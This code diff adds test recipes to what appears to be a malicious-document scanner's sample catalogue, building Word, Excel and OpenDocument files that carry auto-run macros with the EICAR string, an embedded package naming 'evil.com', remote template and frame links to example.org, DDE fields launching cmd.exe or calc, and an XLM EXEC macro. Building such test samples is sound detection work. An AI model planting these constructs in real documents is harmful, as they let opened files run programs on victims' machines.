@@ -329,6 +329,79 @@ void add_rtf(Catalogue& all) {
   });
 }
 
+// A document of one member beside the list of types.
+std::string document_with(const std::string& name, const std::string& content) {
+  const std::string types =
+      "<?xml version=\"1.0\"?><Types><Default Extension=\"xml\" ContentType=\"application/xml\"/></Types>";
+  return zip({{"[Content_Types].xml", types}, {name, content}});
+}
+
+std::string external(const std::string& type, const std::string& target) {
+  return "<?xml version=\"1.0\"?><Relationships><Relationship Id=\"r1\" "
+         "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/" +
+         type + "\" Target=\"" + target + "\" TargetMode=\"External\"/></Relationships>";
+}
+
+void add_ooxml(Catalogue& all) {
+  all.type("application/vnd.openxmlformats-officedocument.wordprocessingml.document", "letter.docx");
+  all.add("ooxml-macro", "a document with macros that is called one without",
+          [] {
+            CfbWriter project;
+            add_project(project, "", {{"ThisDocument", "Sub AutoOpen()\r\n'" + eicar() + "\r\nEnd Sub\r\n"}});
+            return document_with("word/vbaProject.bin", project.bytes());
+          },
+          {"ole-vba-macro"});
+  all.add("ooxml-package", "a program dropped into a document of 2007", [] {
+    const std::string object =
+        CfbWriter().scattered().stream("\1Ole10Native", ole10_native("evil.com", hidden())).bytes();
+    return document_with("word/embeddings/oleObject1.bin", object);
+  });
+  all.add("ooxml-flat", "the document as one XML file, its binary part in base64",
+          [] {
+            CfbWriter project;
+            add_project(project, "", {{"ThisDocument", "'" + eicar() + "\r\n"}});
+            return "<?xml version=\"1.0\"?><pkg:package><pkg:part pkg:name=\"/word/vbaProject.bin\"><pkg:binaryData>" +
+                   base64(project.bytes()) + "</pkg:binaryData></pkg:part></pkg:package>";
+          },
+          {"ole-vba-macro"});
+  const auto add_marked = [&](const std::string& name, const std::string& trick, const std::string& member,
+                              const std::string& content, const std::string& mark, const std::string& category) {
+    all.add_marked(
+        name, trick, [=] { return document_with(member, content); }, {mark}, category);
+  };
+  add_marked("ooxml-template", "the macros stand in a template from elsewhere", "word/_rels/settings.xml.rels",
+             external("attachedTemplate", "http://example.org/evil.dotm"), "ooxml-remote-template", "clean");
+  add_marked("ooxml-template-utf16", "the same in UTF-16", "word/_rels/settings.xml.rels",
+             "\xff\xfe" + utf16(external("attachedTemplate", "http://example.org/evil.dotm")), "ooxml-remote-template",
+             "clean");
+  add_marked("ooxml-object", "an object from elsewhere", "word/_rels/document.xml.rels",
+             external("oleObject", "mhtml:http://example.org/x!x-usc:http://example.org/x"), "ooxml-remote-object",
+             "clean");
+  add_marked("ooxml-frame", "a frame from elsewhere", "word/_rels/webSettings.xml.rels",
+             external("frame", "http://example.org/"), "ooxml-remote-frame", "clean");
+  add_marked("ooxml-dde", "a field that starts a program, in pieces", "word/document.xml",
+             "<?xml version=\"1.0\"?><w:document><w:fldChar "
+             "w:fldCharType=\"begin\"/><w:instrText>DDE</w:instrText><w:instrText>AUTO "
+             "c:\\cmd.exe</w:instrText><w:fldChar w:fldCharType=\"end\"/></w:document>",
+             "ooxml-dde-field", "clean");
+  all.type("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "book.xlsx");
+  add_marked("ooxml-xlm", "macros of Excel 4.0", "xl/macrosheets/sheet1.xml",
+             "<?xml version=\"1.0\"?><xm:macrosheet><f>EXEC(\"cmd\")</f></xm:macrosheet>", "ooxml-xlm-macro", "clean");
+  add_marked("ooxml-dde-link", "a link that starts a program", "xl/externalLinks/externalLink1.xml",
+             "<?xml version=\"1.0\"?><externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
+             "ooxml-dde-link", "clean");
+  all.type("application/vnd.oasis.opendocument.text", "letter.odt");
+  add_marked("odf-encrypted", "an OpenDocument file with a password", "META-INF/manifest.xml",
+             "<?xml "
+             "version=\"1.0\"?><manifest:manifest><manifest:file-entry><manifest:encryption-data/></"
+             "manifest:file-entry></manifest:manifest>",
+             "odf-encrypted", "unchecked");
+  add_marked(
+      "odf-macro", "macros in an OpenDocument file", "Basic/Standard/Module1.xml",
+      "<?xml version=\"1.0\"?><script:module script:name=\"M\" script:language=\"StarBasic\">Sub Main</script:module>",
+      "odf-macro", "clean");
+}
+
 }  // namespace
 
 std::vector<Recipe> office_recipes() {
@@ -336,6 +409,7 @@ std::vector<Recipe> office_recipes() {
   add_tnef(all);
   add_ole(all);
   add_rtf(all);
+  add_ooxml(all);
   return all.take();
 }
 
